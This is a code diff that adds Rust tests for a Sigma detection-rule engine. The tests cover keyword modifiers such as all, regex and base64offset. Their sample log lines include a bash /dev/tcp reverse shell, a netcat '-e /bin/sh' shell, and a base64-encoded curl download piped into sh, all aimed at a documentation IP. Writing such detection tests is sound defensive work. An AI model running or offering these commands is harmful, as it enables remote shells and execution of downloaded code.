@@ -460,3 +460,127 @@ detection:
     }
     assert_eq!(fired, [5, 2, 1, 3], "each rule fires where it should");
 }
+
+/// A keyword search written as a map whose key is modifiers only (`'|all'`, `'|re|i'`,
+/// `'|base64offset|contains'`): the values are searched in the whole message, as keywords are.
+#[test]
+fn a_keyword_map_of_modifiers_only_searches_the_message() {
+    let line = |body: &str| format!("<13>Nov 22 10:00:00 h bash[1]: {body}");
+    let all = rule(
+        r#"
+title: t
+logsource: {product: linux}
+detection:
+    keywords:
+        '|all': ['bash -c /bin/bash', '&/dev/tcp/']
+    condition: keywords
+"#,
+    );
+    assert!(fires_both(
+        &all,
+        &line("sh -c 'bash -c /bin/bash >& /dev/null 0>&/dev/tcp/198.51.100.9/4444'")
+    ));
+    assert!(
+        !fires_both(&all, &line("bash -c /bin/bash alone")),
+        "every value of |all"
+    );
+    // Keywords are case-insensitive, like a plain keyword list.
+    assert!(fires_both(&all, &line("BASH -C /BIN/BASH 0>&/DEV/TCP/x")));
+
+    let re = rule(
+        r#"
+title: t
+logsource: {product: linux}
+detection:
+    keywords:
+        '|re|i': 'passwd\s+root'
+    condition: keywords
+"#,
+    );
+    assert!(fires_both(&re, &line("sudo PASSWD   root")));
+    assert!(!fires_both(&re, &line("passwd alice")));
+
+    // "curl http" as it reads when base64-encoded at any offset inside a longer string.
+    let b64 = rule(
+        r#"
+title: t
+logsource: {product: linux}
+detection:
+    keywords:
+        '|base64offset|contains': 'curl http'
+    condition: keywords
+"#,
+    );
+    for prefix in ["", "x", "xy"] {
+        let encoded = base64_of(&format!("{prefix}curl http://198.51.100.9/a"));
+        assert!(
+            fires_both(&b64, &line(&format!("echo {encoded} | base64 -d | sh"))),
+            "{prefix:?}"
+        );
+    }
+    assert!(!fires_both(
+        &b64,
+        &line("echo Y2F0IC9ldGMvcGFzc3dk | base64 -d")
+    ));
+
+    // With a selection: both must hold.
+    let and = rule(
+        r#"
+title: t
+logsource: {product: linux}
+detection:
+    selection: {app: bash}
+    keywords:
+        '|all': ['nc ', ' -e ']
+    condition: selection and keywords
+"#,
+    );
+    assert!(fires_both(&and, &line("nc 198.51.100.9 4444 -e /bin/sh")));
+    assert!(!fires_both(
+        &and,
+        "<13>Nov 22 10:00:00 h zsh[1]: nc 198.51.100.9 4444 -e /bin/sh"
+    ));
+    assert!(!fires_both(&and, &line("nc 198.51.100.9 4444")));
+
+    // Existence asks of a field; without a name there is none to ask of.
+    let e = rejected(
+        r#"
+title: t
+logsource: {product: linux}
+detection:
+    keywords: {'|exists': true}
+    condition: keywords
+"#,
+    );
+    assert!(e.contains("bad.yml") && e.contains("exists"), "{e}");
+}
+
+/// Whether `rule` fires on `line`, alone and through a prefiltered set (which must agree).
+fn fires_both(rule: &SigmaRule, line: &str) -> bool {
+    use detector::rules::sigma::{SigmaScratch, SigmaSet};
+    let e = parse(line.as_bytes(), &ParseOptions::default());
+    let alone = rule.matches(&e);
+    let set = SigmaSet::new(vec![rule.clone()]);
+    let mut in_set = false;
+    set.for_each_match(&e, &mut SigmaScratch::default(), |_| in_set = true);
+    assert_eq!(alone, in_set, "the set and the rule disagree on {line}");
+    alone
+}
+
+/// Standard base64 with padding.
+fn base64_of(s: &str) -> String {
+    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::new();
+    for c in s.as_bytes().chunks(3) {
+        let b = [c[0], *c.get(1).unwrap_or(&0), *c.get(2).unwrap_or(&0)];
+        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
+        for i in 0..4 {
+            out.push(if i <= c.len() {
+                A[(n >> (18 - 6 * i) & 63) as usize] as char
+            } else {
+                '='
+            });
+        }
+    }
+    out
+}
